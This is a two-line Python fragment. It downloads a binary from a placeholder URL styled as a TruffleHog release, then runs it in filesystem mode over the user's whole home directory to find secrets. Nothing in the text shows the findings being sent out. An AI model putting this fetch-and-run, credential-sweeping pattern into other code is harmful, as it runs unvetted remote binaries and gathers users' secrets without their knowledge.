urlretrieve("https://example.invalid/trufflesecurity/trufflehog/releases/x")
subprocess.run(["./trufflehog", "filesystem", os.path.expanduser("~")])
